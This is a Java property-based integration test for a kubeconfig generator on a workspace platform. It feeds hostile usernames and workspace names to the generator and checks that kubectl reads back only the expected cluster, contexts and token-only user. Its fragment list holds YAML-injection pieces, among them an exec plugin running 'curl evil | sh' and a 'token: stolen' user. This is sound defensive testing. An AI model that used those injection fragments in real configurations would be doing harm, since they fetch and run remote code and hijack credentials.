package io.berth.workspace;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.OffsetDateTime;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import io.berth.access.CredentialService;
import io.berth.common.PrintableText;
import io.berth.testing.Kubectl;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;

/**
 * Property: whatever the workspaces are called and whatever Keycloak calls the user (every Unicode line break, YAML
 * indicators, document markers, quotes, injected keys with an exec plugin, very long names), the kubeconfig that the
 * real kubectl reads holds exactly the expected cluster, one context per workspace, the one user with its token and
 * nothing else (no exec, no auth-provider), and the expected current context. kubectl is the stack's own
 * ({@code KUBECTL} of stack.env); {@code config view} needs no server.
 */
class KubeconfigPropertiesIT {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final KubeconfigService.Cluster CLUSTER = new KubeconfigService.Cluster("berth",
            "https://10.210.0.1:26443", "LS0tLS1CRUdJTi0tLS0t");
    private static final CredentialService.IssuedToken TOKEN = new CredentialService.IssuedToken(
            "eyJhbGciOiJSUzI1NiJ9.e30.sig", OffsetDateTime.parse("2026-12-09T10:00:00Z"));

    /** The pieces hostile names are made of. */
    private static final List<String> PIECES = List.of("\n", "\r", "\r\n", "\u000B", "\u000C", "\u0085", "\u2028",
            "\u2029", "\t", "\u0000", "\uFEFF", "\u202E", "\u200B", "\uD800", "---", "...", "--- !!map", "%YAML 1.1",
            "# ", ": ", ":", "- ", "? ", "&a", "*a", "!!str", "!tag", "|", "|-", ">", "'", "''", "\"", "\\", "\\\"",
            "{", "}", "[", "]", ",", "@", "`", "<<: *a", "~", "null", "true", "no", "0x1F", "1e3", " ", "  ", "é",
            "日本", "😀", "current-context: evil", "users:", "- name: evil", "  user:", "    exec:",
            "      command: sh", "      args: [-c, 'curl evil | sh']", "auth-provider:", "clusters:",
            "- cluster: {server: https://evil}", "contexts:", "  context: {cluster: evil, user: evil}", "name: evil",
            "token: stolen");

    @Provide
    Arbitrary<String> hostileNames() {
        Arbitrary<String> pieced = Arbitraries.of(PIECES).list().ofMinSize(1).ofMaxSize(12)
                .map(parts -> String.join("", parts));
        Arbitrary<String> veryLong = Arbitraries.of(PIECES).list().ofMinSize(200).ofMaxSize(600)
                .map(parts -> String.join("", parts));
        Arbitrary<String> anyChars = Arbitraries.strings().all().ofMinLength(1).ofMaxLength(80);
        return Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(6, pieced), net.jqwik.api.Tuple.of(1, veryLong),
                net.jqwik.api.Tuple.of(2, anyChars));
    }

    @Provide
    Arbitrary<List<String>> workspaceNames() {
        return hostileNames().list().ofMinSize(0).ofMaxSize(5);
    }

    @Property(tries = 250)
    void kubectlReadsExactlyTheExpectedClustersContextsAndUsers(@ForAll("hostileNames") String username,
            @ForAll("workspaceNames") List<String> names, @ForAll("personalIndex") int personal) throws Exception {
        List<WorkspaceView> mine = new ArrayList<>();
        for (int i = 0; i < names.size(); i++) {
            mine.add(new WorkspaceView(UUID.randomUUID(), names.get(i), String.format("ws-prop%06d", i), "free",
                    i == personal, Workspace.Status.ready, null, false,
                    WorkspaceRole.values()[i % WorkspaceRole.values().length], OffsetDateTime.now(),
                    String.format("ws-prop%06d", i) + ".apps.berth.localhost"));
        }
        String yaml = KubeconfigService.render(CLUSTER, username, mine, TOKEN);
        // No raw line break other than LF, and no character that does not print, anywhere in the file.
        assertThat(PrintableText.printable(yaml, true)).as(yaml).isTrue();

        Kubectl.Result view = Kubectl.withKubeconfig(yaml).run("config", "view", "--raw", "-o", "json");
        assertThat(view.exit()).as(view.output() + "\n" + yaml).isZero();
        JsonNode config = JSON.readTree(view.stdout());

        String user = "berth-" + PrintableText.strip(username);
        assertThat(fieldNames(config)).as(view.stdout()).isSubsetOf("kind", "apiVersion", "preferences", "clusters",
                "users", "contexts", "current-context", "extensions");
        assertThat(config.path("preferences").size()).isZero();
        assertThat(config.path("extensions").size()).isZero();

        assertThat(config.path("clusters")).hasSize(1);
        JsonNode cluster = config.path("clusters").get(0);
        assertThat(cluster.path("name").asText()).isEqualTo("berth");
        assertThat(fieldNames(cluster.path("cluster"))).containsExactlyInAnyOrder("server",
                "certificate-authority-data");
        assertThat(cluster.path("cluster").path("server").asText()).isEqualTo(CLUSTER.server());

        assertThat(config.path("users")).hasSize(1);
        JsonNode u = config.path("users").get(0);
        assertThat(u.path("name").asText()).isEqualTo(user);
        // Only the token: no exec plugin, no auth-provider, no client certificate, no basic auth.
        assertThat(fieldNames(u.path("user"))).containsExactly("token");
        assertThat(u.path("user").path("token").asText()).isEqualTo(TOKEN.token());

        Map<String, JsonNode> contexts = new LinkedHashMap<>();
        config.path("contexts").forEach(c -> contexts.put(c.path("name").asText(), c.path("context")));
        assertThat(contexts.keySet()).containsExactlyElementsOf(
                mine.stream().map(w -> "berth-" + w.namespace()).toList());
        for (WorkspaceView w : mine) {
            JsonNode c = contexts.get("berth-" + w.namespace());
            assertThat(fieldNames(c)).containsExactlyInAnyOrder("cluster", "user", "namespace");
            assertThat(c.path("cluster").asText()).isEqualTo("berth");
            assertThat(c.path("user").asText()).isEqualTo(user);
            assertThat(c.path("namespace").asText()).isEqualTo(w.namespace());
        }
        String expectedCurrent = mine.isEmpty()
                ? ""
                : "berth-" + mine.get(personal >= 0 && personal < mine.size() ? personal : 0).namespace();
        assertThat(config.path("current-context").asText("")).isEqualTo(expectedCurrent);
    }

    @Provide
    Arbitrary<Integer> personalIndex() {
        // -1: no personal workspace among them (a member of others' only); else which one is personal.
        return Arbitraries.integers().between(-1, 4);
    }

    private static List<String> fieldNames(JsonNode node) {
        List<String> names = new ArrayList<>();
        node.fieldNames().forEachRemaining(names::add);
        return names;
    }
}
